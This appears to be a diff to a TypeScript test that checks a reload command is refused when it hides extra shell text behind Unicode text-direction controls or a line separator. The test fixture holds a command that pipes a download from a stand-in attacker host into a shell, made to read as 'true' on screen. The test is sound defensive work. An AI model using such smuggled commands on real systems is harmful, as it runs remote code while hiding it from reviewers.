@@ -29,13 +29,19 @@ async function printedLines(): Promise<{ lines: string[]; refused: string }> {
   return { lines: [...summary, ...refused.split("\n")], refused };
 }
 
-it("a reload command holding a line separator or text-direction controls is refused, never printed into the plan as is", async () => {
+it("a reload command holding text-direction controls or a line separator is refused, never printed into the plan as is", async () => {
   // On screen (bidi applied) the end reads "true"; the shell would run the hidden part too.
-  const forged = "true\u2066 ; curl -s https://attacker.example/x | sh #\u2069\u2028+ no access changes";
-  e2e.setConfig({ authConfigPath: target, reloadCommand: forged, users });
-  const { lines, refused } = await printedLines();
-  for (const line of lines) expect(line).not.toMatch(UNPRINTABLE);
-  expect(refused).toMatch(/reloadCommand: "true\\u2066 ; curl .* holds a control or text-direction character/);
+  const hidden = "true\u2066 ; curl -s https://attacker.example/x | sh #\u2069";
+  e2e.setConfig({ authConfigPath: target, reloadCommand: hidden, users });
+  const bidi = await printedLines();
+  for (const line of bidi.lines) expect(line).not.toMatch(UNPRINTABLE);
+  expect(bidi.refused).toMatch(/reloadCommand: "true\\u2066 ; curl .* holds a control or text-direction character/);
+  // A line separator too: written into the stack file as it is, it is refused with the file
+  // (the engine's YAML reader ends a line there, the check's would not).
+  e2e.setConfig({ authConfigPath: target, reloadCommand: `${hidden}\u2028+ no access changes`, users });
+  const separated = await printedLines();
+  for (const line of separated.lines) expect(line).not.toMatch(UNPRINTABLE);
+  expect(separated.refused).toMatch(/the stack file has a line break other than \\n \(\\u2028\) at line \d+, column \d+/);
 });
 
 it("an apiUrl holding text-direction controls (where every user's ml CLI sends its key) is refused, never printed into the plan as is", async () => {
